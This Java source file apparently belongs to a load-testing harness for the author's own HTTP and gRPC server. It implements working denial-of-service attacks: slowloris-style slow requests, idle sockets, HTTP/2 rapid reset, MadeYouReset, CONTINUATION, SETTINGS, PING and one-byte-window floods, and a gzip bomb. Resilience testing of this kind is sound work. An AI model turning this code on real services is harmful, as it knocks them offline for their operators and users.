package dev.cxos.bench.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.concurrent.atomic.LongAdder;
import java.util.concurrent.locks.LockSupport;
import java.util.function.BooleanSupplier;
import java.util.zip.GZIPOutputStream;

/** What hostile clients do, each with many connections at once, opened again when they are cut. */
public enum Attack {
  /** The head of a request, a byte a second. */
  SLOW_HEADS("slow heads", 500),
  /** A body, a byte every ten seconds. */
  SLOW_BODIES("slow bodies", 500),
  /** Large answers that are never read. */
  SLOW_READS("slow reads", 50),
  /** Connections that send nothing. */
  IDLE_SOCKETS("idle sockets", 2000),
  /** Requests that are taken back at once (CVE-2023-44487). */
  RAPID_RESET("rapid reset", 4),
  /** Requests that the server has to take back itself (CVE-2025-8671). */
  MADE_YOU_RESET("MadeYouReset", 4),
  /** Heads that never end (CVE-2024-27983 and others). */
  CONTINUATION("CONTINUATION flood", 4),
  /** Settings without end (CVE-2019-9515). */
  SETTINGS("SETTINGS flood", 4),
  /** Pings without end (CVE-2019-9512). */
  PING("PING flood", 4),
  /** Windows that open by one byte (CVE-2019-9511). */
  TINY_WINDOWS("1-byte windows", 4),
  /** A megabyte that unpacks to a gigabyte. */
  GZIP_BOMB("gzip bomb", 4),
  /** Rapid reset at the gRPC door. */
  GRPC_RAPID_RESET("rapid reset, gRPC", 4);

  private static final int FRAMES = 20_000;
  private static final int STREAMS = 100;
  private static final int PIPELINED = 50;
  private static final byte[] NONE = new byte[0];
  private static final byte[] WINDOW_OF_ONE = {0, 4, 0, 0, 0, 1};
  private static final Duration PAUSE = Duration.ofMillis(100);
  private static final Duration BYTE_OF_HEAD = Duration.ofSeconds(1);
  private static final Duration BYTE_OF_BODY = Duration.ofSeconds(10);

  private final String title;
  private final int connections;

  Attack(String title, int connections) {
    this.title = title;
    this.connections = connections;
  }

  /**
   * Whom it is against.
   *
   * @param http the HTTP port
   * @param grpc the gRPC port
   * @param authorization a header that is good
   */
  public record Target(int http, int grpc, String authorization) {}

  /** What people call it. */
  public String title() {
    return title;
  }

  /** How many connections it keeps open. */
  public int connections() {
    return connections;
  }

  /** One of its connections: returns when it is over. */
  void run(Target target, BooleanSupplier goesOn, LongAdder opened) {
    while (goesOn.getAsBoolean()) {
      int port = this == GRPC_RAPID_RESET ? target.grpc() : target.http();
      try (HostileConnection connection = new HostileConnection(port)) {
        opened.increment();
        attack(target, connection, goesOn);
      } catch (IOException cut) {
        // It is opened again.
      }
      pause(PAUSE, goesOn);
    }
  }

  private void attack(Target target, HostileConnection connection, BooleanSupplier goesOn)
      throws IOException {
    byte[] get = HostileConnection.get("/openapi.json", target.authorization());
    switch (this) {
      case SLOW_HEADS -> {
        connection.text("GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ");
        drip(connection, BYTE_OF_HEAD, goesOn);
      }
      case SLOW_BODIES -> {
        connection.text(post(target, "", 1000));
        drip(connection, BYTE_OF_BODY, goesOn);
      }
      case SLOW_READS -> {
        connection.text("GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n".repeat(PIPELINED));
        drip(connection, BYTE_OF_BODY, goesOn);
      }
      case IDLE_SOCKETS -> pause(BYTE_OF_BODY, goesOn);
      case GZIP_BOMB -> {
        connection.text(post(target, "Content-Encoding: gzip\r\n", Bomb.PACKED.length));
        connection.bytes(Bomb.PACKED);
        pause(PAUSE, goesOn);
      }
      case TINY_WINDOWS -> {
        connection.http2(WINDOW_OF_ONE);
        for (int i = 0; i < STREAMS; i++) {
          int flags = HostileConnection.END_HEADERS | HostileConnection.END_STREAM;
          connection.frame(HostileConnection.HEADERS, flags, 2 * i + 1, get);
        }
        flood(connection, get, goesOn);
      }
      case CONTINUATION -> {
        connection.http2(NONE).frame(HostileConnection.HEADERS, 0, 1, get);
        flood(connection, get, goesOn);
      }
      case RAPID_RESET, GRPC_RAPID_RESET, MADE_YOU_RESET, SETTINGS, PING ->
          flood(connection.http2(NONE), get, goesOn);
    }
  }

  private void flood(HostileConnection connection, byte[] get, BooleanSupplier goesOn)
      throws IOException {
    for (int i = 0; i < FRAMES && goesOn.getAsBoolean(); i++) {
      frame(connection, 2 * i + 1, get);
    }
    connection.flush();
  }

  private void frame(HostileConnection connection, int stream, byte[] get) throws IOException {
    int ends = HostileConnection.END_HEADERS | HostileConnection.END_STREAM;
    switch (this) {
      case RAPID_RESET, GRPC_RAPID_RESET -> {
        connection.frame(HostileConnection.HEADERS, ends, stream, get);
        connection.frame(HostileConnection.RST_STREAM, 0, stream, HostileConnection.number(8));
      }
      case MADE_YOU_RESET -> {
        connection.frame(HostileConnection.HEADERS, HostileConnection.END_HEADERS, stream, get);
        connection.frame(HostileConnection.WINDOW_UPDATE, 0, stream, HostileConnection.number(0));
      }
      case CONTINUATION -> connection.frame(HostileConnection.CONTINUATION, 0, 1, NONE);
      case SETTINGS -> connection.frame(HostileConnection.SETTINGS, 0, 0, NONE);
      case TINY_WINDOWS ->
          connection.frame(
              HostileConnection.WINDOW_UPDATE,
              0,
              stream % (2 * STREAMS),
              HostileConnection.number(1));
      default -> connection.frame(HostileConnection.PING, 0, 0, new byte[8]);
    }
  }

  private static void drip(HostileConnection connection, Duration pace, BooleanSupplier goesOn)
      throws IOException {
    while (goesOn.getAsBoolean()) {
      pause(pace, goesOn);
      connection.text("x");
    }
  }

  /** Waits, but not longer than it goes on. */
  private static void pause(Duration time, BooleanSupplier goesOn) {
    long end = System.nanoTime() + time.toNanos();
    for (long left = time.toNanos(); left > 0 && goesOn.getAsBoolean(); ) {
      LockSupport.parkNanos(Math.min(left, PAUSE.toNanos()));
      left = end - System.nanoTime();
    }
  }

  private static String post(Target target, String headers, int length) {
    return "POST /v1/journeys HTTP/1.1\r\n"
        + "Host: x\r\n"
        + "Content-Type: application/json\r\n"
        + "Authorization: "
        + target.authorization()
        + "\r\nContent-Length: "
        + length
        + "\r\n"
        + headers
        + "\r\n";
  }

  /** Made when it is first thrown: it takes seconds. */
  private static final class Bomb {
    private static final int GIGABYTE = 1 << 30;
    private static final int BLOCK = 1 << 16;
    private static final byte[] PACKED = pack();

    private static byte[] pack() {
      ByteArrayOutputStream packed = new ByteArrayOutputStream();
      try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
        byte[] block = " ".repeat(BLOCK).getBytes(StandardCharsets.US_ASCII);
        for (int i = 0; i < GIGABYTE / BLOCK; i++) {
          gzip.write(block);
        }
      } catch (IOException impossible) {
        throw new UncheckedIOException(impossible);
      }
      return packed.toByteArray();
    }
  }
}
